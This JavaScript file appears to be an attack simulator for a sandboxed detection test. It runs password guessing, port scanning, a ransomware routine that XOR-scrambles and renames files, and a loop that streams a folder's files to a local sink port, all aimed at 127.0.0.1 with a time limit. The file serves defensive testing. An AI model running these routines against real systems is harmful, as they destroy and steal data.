/**
 * The attacker of a sandbox. It knows that sandbox alone, and ends with it or by itself.
 *
 *     node attacker.js <scenario> <ports and folder of the sandbox, JSON>
 */
import { readdirSync, readFileSync, renameSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";

const LIFE_MS = 90_000;
const [scenario, text] = process.argv.slice(2);
const target = JSON.parse(text);

setTimeout(() => process.exit(), LIFE_MS).unref();
process.on("disconnect", () => process.exit());
process.on("uncaughtException", () => process.exit(1));

const USERS = ["root", "admin", "test", "oracle", "postgres", "backup", "deploy", "guest"];

function knock(port, data) {
  return new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1", () => data === undefined || socket.write(data));
    socket.once("data", () => socket.end()).once("error", () => {}).once("close", resolve);
  });
}

const ATTACKS = {
  /** Guesses passwords one after another. */
  async ssh_brute_force() {
    for (let n = 0;; n++) {
      await knock(target.login, `${USERS[n % USERS.length]} guess${n}\n`);
      await sleep(100);
    }
  },
  /** Tries which ports answer, again and again. */
  async port_scan() {
    while (true) {
      for (const port of target.decoys) {
        await knock(port);
        await sleep(20);
      }
    }
  },
  /** Makes files unreadable and renames them. */
  async ransomware() {
    for (const name of readdirSync(target.folder)) {
      const path = join(target.folder, name);
      writeFileSync(path, readFileSync(path).map((byte) => byte ^ 0x5a));
      renameSync(path, `${path}.locked`);
      await sleep(50);
    }
    await sleep(LIFE_MS);
  },
  /** Copies files away. */
  async exfiltration() {
    const socket = connect(target.sink, "127.0.0.1");
    socket.on("error", () => process.exit());
    while (true) {
      for (const name of readdirSync(target.folder)) {
        socket.write(readFileSync(join(target.folder, name)));
        await sleep(5);
      }
    }
  },
};
await ATTACKS[scenario]();
